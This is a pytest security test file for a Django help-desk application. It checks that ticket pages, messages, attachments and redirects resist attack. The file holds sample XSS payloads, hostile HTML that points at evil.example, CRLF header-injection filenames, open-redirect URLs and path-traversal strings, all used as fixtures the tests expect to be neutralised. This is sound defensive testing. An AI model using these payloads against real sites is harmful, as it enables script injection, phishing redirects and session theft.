"""Attacks that help desks have seen, against the pages. Those by mail are in tests/mail/test_attacks.py.

Those against accounts are in test_attacks_on_accounts.py; who sees whose tickets is in test_unseen.py, and who may open
and send what in test_who_may.py.
"""

import re
from collections.abc import Callable
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from urllib.parse import urljoin, urlsplit

import pytest
from django.core import mail
from django.test import Client

from reynard.desk import files
from reynard.desk.actions import canned_actions, people, tickets
from reynard.desk.actions import views as view_actions
from reynard.desk.actions.canned_actions import GivenCannedAction
from reynard.desk.actions.tickets import StaffUpdate
from reynard.desk.actions.views import GivenView
from reynard.desk.models import (
    Attachment,
    Category,
    ContactGroup,
    CustomFieldChoice,
    Role,
    Staff,
    Ticket,
    Update,
)
from reynard.desk.rules.messages import compose
from reynard.desk.selectors import reference
from tests import factories
from tests.web.conftest import PASSWORD, read_to_end
from tests.web.test_who_may import FORMS, ROUTES, _address, _filled, cast, there

__all__ = ["cast", "there"]  # fixtures

SignIn = Callable[..., Client]


class Elements(HTMLParser):
    """The elements of a page as a browser finds them, and what stands in scripts."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.scripts = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attributes)))

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        if self.found and self.cdata_elem == "script":
            self.scripts += data


# --- names that are programs

NAME = """'"><probe data-xss=1 onload=xss()></title></textarea></script><script>xss()</script>{{ 7|add:7 }}"""


@pytest.fixture
def hostile(desk: SimpleNamespace, there: dict[str, Any], cast: dict[str, Staff]) -> dict[str, Any]:
    """A desk in which everything that has a name has this one."""
    Category.objects.update(name=NAME, description=NAME, mail_from_name=NAME)
    Role.objects.filter(id=there["rows"]["role"]).update(name=NAME)
    Staff.objects.filter(id=desk.jonas.id).update(first_name=NAME, last_name=NAME)
    ContactGroup.objects.update(name=NAME, description=NAME)
    for name in ("new", "normal", "lena"):
        type(getattr(desk, name)).objects.filter(id=getattr(desk, name).id).update(name=NAME)
    field = factories.make_field(NAME, "choice", categories=[desk.workshop], choices=(NAME,))
    choice = CustomFieldChoice.objects.get(field=field)
    reference.changed()
    known = reference.current()
    attacked = factories.make_ticket(
        desk.lena,
        desk.workshop,
        subject=NAME,
        text=NAME,
        tags=[NAME[:60].replace(",", "")],
        now=datetime.now(UTC),
        custom_values={field.id: str(choice.id)},
        assignee=desk.jonas.id,
    )
    note = StaffUpdate(staff=cast["admin"].id, message=compose(NAME, ""), new_subject=NAME + "!")
    tickets.add_private_note(attacked.id, note, reference=known, now=datetime.now(UTC))
    update = Update.objects.filter(ticket=attacked).latest("id")
    kept = files.keep_pieces([b"x"], NAME, "text/html")
    Attachment.objects.create(update=update, filename=NAME, content_type="image/png", size=1, sha256=kept.sha256)
    given = GivenCannedAction(name=NAME[:100], text=NAME.replace("{", ""), categories=[desk.workshop.id], tags=["<b>"])
    canned_actions.save(given, reference=known)
    view = GivenView(name=NAME[:60], query=f"subject {NAME[:20]}", shared=True)
    view_actions.save(view, person=known.staff[desk.priya.id], reference=known, now=datetime.now(UTC))
    people.create_api_key(name=NAME[:100], now=datetime.now(UTC))
    factories.make_webhook("https://hooks.example.org/x", name=NAME[:100])
    return there | {"number": attacked.id, "update": update.id}


def is_attacked(page: str) -> bool:
    seen = Elements(page)
    return "xss" in seen.scripts or any(
        tag == "probe" or "data-xss" in attributes or any(name.startswith("on") for name in attributes)
        for tag, attributes in seen.found
    )


def test_the_probe_finds_what_is_not_escaped() -> None:
    assert is_attacked(f"<p>{NAME}</p>")
    assert is_attacked(f'<input value="{NAME}">')
    assert is_attacked(f"<title>{NAME}</title>")


def test_names_are_never_run_on_any_page(cast: dict[str, Staff], hostile: dict[str, Any]) -> None:
    """Subject, contact, staff, file, field, choice, tag, category, status, view, canned action, key, webhook, group."""
    client = Client()
    client.force_login(cast["admin"])
    shown = 0
    paths = [_address(route, hostile) for route in ROUTES if "logout" not in route]
    paths += [
        f"/inbox/?view=search&q={NAME}",
        f"/inbox/suggest/?q={NAME}",
        "/inbox/suggest/?q=status:",
        "/inbox/?view=all",
    ]
    paths += [f"/inbox/merge/?ticket={hostile['number']}&ticket={hostile['second']}", "/inbox/contacts/?email=lena"]
    paths += [
        f"/manage/keys/?new&x={NAME}",
        f"/inbox/new/?email={NAME}",
        f"/inbox/ticket/{hostile['number']}/?view={NAME}",
    ]
    for path in paths:
        answer = client.get(path)
        body = b"" if answer.streaming else answer.content
        read_to_end(answer)
        if answer["Content-Type"].startswith("text/html"):
            shown += b"&lt;probe" in body or b"\\u003C" in body
            assert not is_attacked(body.decode()), path
            assert "14" not in re.findall(r"xss\(\)&lt;/script&gt;(.{0,4})", body.decode()), path
    assert shown > 15


def test_what_was_sent_wrongly_is_not_run_when_it_is_shown_again(cast: dict[str, Staff], there: dict[str, Any]) -> None:
    client = Client()
    client.force_login(cast["admin"])
    for route in ROUTES:
        names = [
            *FORMS.get(route, {}),
            "q",
            "name",
            "subject",
            "text",
            "reply",
            "email",
            "back",
            "next",
            "login",
            "code",
        ]
        answer = client.post(_address(route, there), {name: NAME for name in names if name not in {"ticket", "do"}})
        body = b"" if answer.streaming else answer.content
        if answer["Content-Type"].startswith("text/html"):
            assert not is_attacked(body.decode()), route
        client.force_login(cast["admin"])


# --- messages that are programs

HOSTILE_HTML = """
<style>body{display:none} input[value^=a]{background:url(//evil.example/a)}</style>
<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content="0;url=//evil.example">
<base href=//evil.example/>
<form action=//evil.example><input name=password type=password><button formaction=//evil.example>Sign in</button></form>
<p style="position:fixed;inset:0" class="composer btn" id="main" name="csrfmiddlewaretoken" data-undo="1"
 hx-get="/x">A</p>
<a href="javascript:xss()">B</a><a href="data:text/html,<script>xss()</script>">C</a><a href="https://example.org/">D</a>
<img src=x onerror=xss()><img src="//evil.example/a.png">
<img src="https://evil.example/b.png" srcset="https://evil.example/c.png 2x">
<svg><use href="//evil.example/x.svg#a"/><animate onbegin=xss()></svg>
<iframe srcdoc="<script>xss()</script>"></iframe><object data=x></object>
<embed src=x><video src=x autoplay><audio src=x>
<details open ontoggle=xss()>E</details><template><script>xss()</script></template>
<textarea><script>xss()</script></textarea>
<a href="https://example.org/" target="_self" rel="opener">F</a><a href="//evil.example/">G</a><a href="/logout/">H</a>
<p>the end</p>
<math><mtext></form><form><mglyph><style>
</math><img src onerror=xss()>
<noscript><p title="</noscript><img src=x onerror=xss()>"></noscript><plaintext>
"""


@pytest.fixture
def thread(desk: SimpleNamespace, priya: Client) -> list[tuple[str, dict[str, str | None]]]:
    """The elements of a hostile message, as a page shows it: also when it was stored without being cleaned."""
    ticket = factories.make_ticket(desk.lena, desk.workshop, now=datetime.now(UTC), message=compose("", HOSTILE_HTML))
    Update.objects.filter(ticket=ticket).update(html=HOSTILE_HTML)
    page = priya.get(f"/inbox/ticket/{ticket.id}/").content.decode()
    assert not is_attacked(page)
    start = page.index('class="text prose')
    return Elements(page[page.index(">", start) : page.index("the end", start)]).found


def test_messages_bring_no_styles_forms_frames_or_pictures_from_elsewhere(thread: Any) -> None:
    tags = {tag for tag, _attributes in thread}
    assert tags & {"a", "p"}
    evil = "style link meta base form input button svg math iframe object embed video audio template textarea script"
    assert not tags & set(evil.split())
    shown = str(thread)
    for word in ("evil.example/a", "evil.example/b", "evil.example/c", "javascript:", "data:text", "formaction", "xss"):
        assert word not in shown, word


def test_messages_cannot_pass_for_parts_of_the_page(thread: Any) -> None:
    """No classes, ids, names or hooks of scripts come from a message."""
    shown = str(thread)
    for word in ("'composer btn'", "position:fixed", "csrfmiddlewaretoken'", "data-undo", "hx-get", "'main'"):
        assert word not in shown, word


def test_links_in_messages_get_no_hold_of_the_page(thread: Any) -> None:
    links = [attributes for tag, attributes in thread if tag == "a" and "example.org" in str(attributes.get("href"))]
    assert len(links) == 2
    for link in links:
        assert link["target"] == "_blank"
        assert set(str(link["rel"]).split()) >= {"noopener", "noreferrer", "nofollow"}


# --- files

PROGRAMS = [
    ("page.html", "text/html"),
    ("page.xhtml", "application/xhtml+xml"),
    ("drawing.svg", "image/svg+xml"),
    ("feed.xml", "text/xml"),
    ("script.js", "text/javascript"),
    ("paper.pdf", "application/pdf"),
    ("odd.png", "image/png; charset=x, text/html"),
    ("mail.mht", "multipart/related"),
    ('a"; filename="b.html', "text/plain"),
    ("a\r\nContent-Type: text/html\r\n\r\n<script>xss()</script>.txt", "text/plain"),
]


@pytest.mark.parametrize(("filename", "content_type"), PROGRAMS)
@pytest.mark.parametrize("query", ["", "?download"])
def test_attachments_are_never_run(
    desk: SimpleNamespace, priya: Client, filename: str, content_type: str, query: str
) -> None:
    ticket = factories.make_ticket(desk.lena, desk.workshop)
    kept = files.keep_pieces([b"<script>xss()</script>"], "x", "text/plain")
    file = Attachment.objects.create(
        update=Update.objects.get(ticket=ticket),
        filename=filename,
        content_type=content_type,
        size=22,
        sha256=kept.sha256,
    )
    answer = priya.get(f"/inbox/file/{file.id}/{query}")
    assert answer.status_code == 200
    assert answer["Content-Disposition"].startswith("attachment; filename=")
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert answer["Content-Type"] in {"application/octet-stream", "application/pdf", "text/plain"}
    assert not any("\n" in value or "\r" in value for value in answer.headers.values())
    read_to_end(answer)


def test_a_picture_is_shown_but_in_a_sandbox(desk: SimpleNamespace, priya: Client) -> None:
    ticket = factories.make_ticket(desk.lena, desk.workshop)
    kept = files.keep_pieces([b"<script>xss()</script>"], "x", "image/png")
    file = Attachment.objects.create(
        update=Update.objects.get(ticket=ticket),
        filename="a.png",
        content_type="image/png",
        size=22,
        sha256=kept.sha256,
    )
    answer = priya.get(f"/inbox/file/{file.id}/")
    assert (answer["Content-Type"], answer["X-Content-Type-Options"]) == ("image/png", "nosniff")
    assert "sandbox" in answer["Content-Security-Policy"]
    read_to_end(answer)


# --- requests that others forge

POSTED = [route for route in ROUTES if not route.startswith("manage/all/desk/") or "role" in route]


def test_no_page_takes_what_another_site_sends(cast: dict[str, Staff], there: dict[str, Any]) -> None:
    client = Client(enforce_csrf_checks=True)
    client.force_login(cast["admin"])
    before = list(Ticket.objects.values()), list(Role.objects.values())
    for route in POSTED:
        answer = client.post(_address(route, there), _filled(FORMS.get(route, {}), there))
        assert answer.status_code == 403, route
    assert (list(Ticket.objects.values()), list(Role.objects.values())) == before


def test_the_mark_of_a_form_is_worth_nothing_from_another_origin(desk: SimpleNamespace) -> None:
    client = Client(enforce_csrf_checks=True)
    page = client.get("/login/").content.decode()
    mark = re.search(r'csrfmiddlewaretoken" value="(\w+)"', page)
    assert mark
    form = {"login": "a@b.example", "password": "x", "csrfmiddlewaretoken": mark[1]}
    assert client.post("/login/", form, headers={"Origin": "https://evil.example"}).status_code == 403
    assert client.post("/login/", form, headers={"Origin": "null"}).status_code == 403
    assert client.post("/login/", form).status_code == 200


# --- addresses that lead elsewhere

ELSEWHERE = [
    "https://evil.example/",
    "//evil.example/",
    "///evil.example/",
    "/\\evil.example/",
    "\\\\evil.example/",
    "/\t/evil.example/",
    "https:evil.example",
    "https:/evil.example",
    "http:///evil.example",
    "javascript:alert(1)//",
    " //evil.example",
    "/inbox/../\\evil.example",
    "/inbox/\r\nLocation: https://evil.example/",
    "@evil.example",
    "https://testserver@evil.example/",
]


def _host(address: str) -> str:
    """Where a browser goes; it reads backslashes as slashes and leaves out line breaks."""
    plain = re.sub(r"[\t\r\n]", "", address).strip().replace("\\", "/")
    parts = urlsplit(urljoin("http://testserver/x/", re.sub(r"^(https?):/*", r"\1://", plain)))
    return parts.netloc if parts.scheme in {"http", "https"} else parts.scheme


@pytest.mark.parametrize("address", ELSEWHERE)
def test_no_page_leads_to_another_site(desk: SimpleNamespace, sign_in: SignIn, address: str) -> None:
    client = sign_in(desk.priya)
    ticket = factories.make_ticket(desk.lena, desk.workshop)
    answers = [
        client.post("/inbox/bulk/", {"do": f"status:{desk.waiting.id}", "ticket": ticket.id, "back": address}),
        client.post("/inbox/undo/", {"back": address}),
        client.post("/inbox/look/", {"back": address, "density": "compact"}),
        client.post("/account/reauthenticate/", {"password": PASSWORD, "next": address}),
        client.get("/login/", {"next": address}),
        client.get("/logout/", {"next": address}),
        client.post("/logout/", {"next": address}),
        client.post("/login/", {"login": desk.priya.email, "password": PASSWORD, "next": address}),
    ]
    for answer in answers:
        assert _host(answer.headers.get("Location", "")) == "testserver", answer.headers
        assert answer.status_code in {200, 302}
    page = client.get("/inbox/merge/", {"ticket": ticket.id, "back": address}).content.decode()
    for _tag, attributes in Elements(page).found:
        if "href" in attributes:
            assert _host(str(attributes["href"])) == "testserver"


@pytest.mark.parametrize("header", [{"Host": "evil.example"}, {"X-Forwarded-Host": "evil.example"}])
def test_links_in_mails_do_not_follow_the_host_of_a_request(
    desk: SimpleNamespace, settings: Any, header: dict[str, str]
) -> None:
    settings.OWN_ORIGIN = "https://desk.example.org"
    settings.REYNARD_MAIL_FROM = "desk@rollwerk.example"
    desk.priya.set_password(PASSWORD)
    desk.priya.save()
    assert Client().post("/account/password/reset/", {"email": desk.priya.email}, headers=header).status_code == 302
    said = str([one.body for one in mail.outbox])
    assert "https://desk.example.org/account/password/reset/key/" in said
    assert "evil.example" not in said


# --- headers


def test_every_page_and_every_refusal_has_the_headers_that_protect_it(
    cast: dict[str, Staff], there: dict[str, Any]
) -> None:
    for person in (cast["admin"], cast["powerless"], None):
        client = Client()
        if person:
            client.force_login(person)
        for route in ROUTES:
            if "logout" in route or (person is not cast["admin"] and route.startswith("manage/all/desk/")):
                continue
            answer = client.get(_address(route, there))
            read_to_end(answer)
            policy = answer["Content-Security-Policy"]
            assert "default-src 'none'" in policy, route
            assert "unsafe" not in policy, route
            assert "http:" not in policy, route
            assert answer["X-Content-Type-Options"] == "nosniff", route
            assert answer["Referrer-Policy"] in {"same-origin", "no-referrer"}, route
            if "sandbox" not in policy:
                assert answer["X-Frame-Options"] == "DENY", route
                assert "frame-ancestors 'none'" in policy, route
                assert answer["Cross-Origin-Opener-Policy"] == "same-origin", route
                assert "no-store" in answer["Cache-Control"], route


def test_pictures_and_fonts_from_elsewhere_are_refused_unless_somebody_asks(
    desk: SimpleNamespace, priya: Client
) -> None:
    ticket = factories.make_ticket(desk.lena, desk.workshop)
    policy = _directives(priya.get(f"/inbox/ticket/{ticket.id}/"))
    assert policy["img-src"] == "'self' data:"
    assert policy["font-src"] == policy["style-src"] == policy["connect-src"] == policy["script-src"] == "'self'"
    asked = _directives(priya.get(f"/inbox/ticket/{ticket.id}/?images={Update.objects.get(ticket=ticket).id}"))
    assert asked.pop("img-src") == "'self' data: https:"
    assert asked == {name: value for name, value in policy.items() if name != "img-src"}


def _directives(answer: Any) -> dict[str, str]:
    parts = (part.strip().split(" ", 1) for part in answer["Content-Security-Policy"].split(";"))
    return {part[0]: part[-1] for part in parts}


def _static_files() -> list[str]:
    from reynard import web

    folder = Path(web.__file__).parent / "static"
    return [path.relative_to(folder).as_posix() for path in sorted(folder.rglob("*.*"))]


@pytest.mark.parametrize("name", _static_files())
def test_static_files_are_what_they_say_and_nothing_else(db: None, settings: Any, name: str) -> None:
    answer = Client().get(f"{settings.STATIC_URL}{name}")
    read_to_end(answer)
    assert answer.status_code == 200
    assert answer["X-Content-Type-Options"] == "nosniff"
    kinds = {"css": "text/css", "js": "text/javascript", "svg": "image/svg+xml"}
    assert answer["Content-Type"].split(";")[0] == kinds[name.rpartition(".")[2]]
    assert not answer.cookies
    assert Client().get(f"{settings.STATIC_URL}../settings.py").status_code == 404
    assert Client().get(f"{settings.STATIC_URL}%2e%2e/%2e%2e/settings.py").status_code == 404


@pytest.mark.parametrize("number", ["²", "٣", "9" * 30, "9" * 5000, "-1", "1e3", "\x00", "0x10"])
def test_numbers_that_are_none_break_nothing(desk: SimpleNamespace, priya: Client, number: str) -> None:
    ticket = factories.make_ticket(desk.lena, desk.workshop)
    path = f"/inbox/ticket/{ticket.id}/"
    sent: list[tuple[str, dict[str, Any]]] = [
        (f"{path}send/", {"mode": "reply", "reply": "Hello", "last_seen": number, "status": number}),
        (f"{path}change/", {"status": number, "assignee": number, f"field-{number}": "x"}),
        (f"{path}withdraw/", {"update": number}),
        (f"{path}canned/", {"canned": number}),
        (f"{path}forward/", {"to": "a@b.example", "subject": "x", "attachment": number}),
        ("/inbox/merge/", {"ticket": [number, str(ticket.id)], "into": number}),
        ("/inbox/new/", {"category": number, "assignee": number, "email": "a@b.example", "subject": "x", "text": "x"}),
    ]
    sent += [("/inbox/bulk/", {"do": f"{what}:{number}", "ticket": ticket.id}) for what in ("status", "assignee")]
    sent += [("/inbox/bulk/", {"do": f"category:{number}", "ticket": [number, ticket.id]})]
    for address, form in sent:
        assert priya.post(address, form).status_code < 500, address
    for address in (
        f"{path}news/?after={number}",
        f"{path}?before={number}&images={number}&at={number}&view=all",
        f"/inbox/?page={number}",
        f"/inbox/?view=view-{number}",
        f"/inbox/?view=search&q=id:{number}",
        f"/manage/held/?before={number}",
        f"/inbox/merge/?ticket={number}",
    ):
        assert priya.get(address.replace("\x00", "%00")).status_code < 500, address
